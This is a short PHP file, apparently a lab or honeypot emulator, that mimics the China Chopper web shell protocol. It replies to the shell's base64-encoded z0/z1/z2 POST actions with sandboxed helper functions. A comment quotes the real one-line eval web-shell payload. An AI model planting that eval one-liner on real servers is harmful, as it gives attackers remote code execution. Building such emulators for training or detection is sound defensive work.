<?php require getenv('LAB_SHELL_LIB');
// Emulates China Chopper's one-line eval shell: caidao=@eval(base64_decode($_POST[z0])) with the
// action's code in z0 and its arguments in z1/z2; answers framed by ->| and |<-.
$code = base64_decode($_POST['z0'] ?? '');
echo '->|';
if (strpos($code, 'opendir') !== false) echo lab_listing();
elseif (strpos($code, '@system') !== false) echo lab_run_script(base64_decode($_POST['z2'] ?? ''));
elseif (strpos($code, 'readfile') !== false) echo @file_get_contents(lab_sandbox() . '/lab-notes.txt');
elseif (strpos($code, 'php_uname') !== false) echo lab_info();
echo '|<-';
